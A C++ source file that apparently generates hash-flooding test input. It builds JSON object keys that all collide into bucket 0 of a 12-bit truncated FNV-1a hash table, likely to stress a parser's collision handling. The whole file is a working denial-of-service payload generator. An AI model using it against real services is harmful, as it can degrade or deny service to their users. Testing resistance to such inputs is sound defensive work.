#include "attack/colliding_keys.hpp"

#include <array>
#include <cstdint>
#include <vector>

namespace attack {
namespace {

constexpr std::string_view letters = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-_";
constexpr std::uint64_t prime = 0x100000001B3, offset = 0xcbf29ce484222325, table_offset = 16, mask = 4095;

std::uint64_t hash(std::uint64_t state, std::string_view text) {
    for (const char c : text) state = ((static_cast<std::uint64_t>(c) ^ state) * prime) & mask;
    return state;
}

// For each state: the two letters that lead from it to bucket 0.
std::array<std::vector<std::string>, mask + 1> ends() {
    std::array<std::vector<std::string>, mask + 1> out;
    for (const char a : letters)
        for (const char b : letters) {
            const std::string pair{a, b};
            for (std::uint64_t state = 0; state <= mask; ++state)
                if (hash(state, pair) == 0) out[state].push_back(pair);
        }
    return out;
}

std::string word(std::size_t number) {
    std::string out;
    for (int i = 0; i < 6; ++i, number /= letters.size()) out += letters[number % letters.size()];
    return out;
}

}  // namespace

std::string colliding_members(std::size_t count) {
    static const auto last = ends();
    std::string out;
    std::size_t made = 0;
    for (std::size_t number = 0; made < count; ++number) {
        const std::string first = word(number);
        for (const std::string& pair : last[hash((offset + table_offset) & mask, first)]) {
            if (made == count) break;
            ((((out += made++ == 0 ? "\"" : ",\"") += first) += pair) += "\":0");
        }
    }
    return out;
}

}  // namespace attack
